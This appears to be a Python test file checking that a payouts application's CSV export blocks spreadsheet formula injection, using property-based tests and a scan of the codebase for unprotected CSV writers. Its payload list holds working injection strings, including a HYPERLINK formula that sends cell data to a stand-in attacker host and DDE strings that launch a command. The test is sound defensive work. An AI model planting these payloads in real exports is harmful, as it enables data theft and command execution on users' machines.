"""CSV injection (issue 11): every CSV export goes through payouts.csv_export, and no cell it
writes can run as a spreadsheet formula, whatever the text."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from payouts.csv_export import FORMULA_STARTS, csv_safe, write_csv

ROOT = Path(__file__).resolve().parents[2]
APPS = ["storefront", "csr_partners", "payouts", "artisans", "catalogue"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "=1+1\n=2"]


def read_back(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.lists(st.lists(st.one_of(st.text(), st.sampled_from(PAYLOADS)), min_size=1, max_size=4),
                max_size=5))
def test_no_cell_written_starts_a_formula_and_nothing_is_lost(rows):
    back = read_back(write_csv(rows, header=["a", "b", "c", "d"]))
    assert len(back) == len(rows) + 1
    for written, cells in zip(back[1:], rows, strict=True):
        for out, original in zip(written, cells, strict=True):
            assert not out.lstrip(" ").startswith(FORMULA_STARTS), out
            # Only the apostrophe is added: the text itself is kept for the reader.
            assert out == original or out == "'" + original


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert csv_safe(-1250) == -1250 and csv_safe(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_safe("Asha Roy") == "Asha Roy" and csv_safe(None) == ""
    assert [csv_safe(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)


def test_every_csv_writer_in_the_code_neutralises_its_cells():
    """A module that writes CSV either uses write_csv or passes every cell through csv_safe."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "csv_export.py":
                continue
            code = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", code) and "csv_safe" not in code:
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
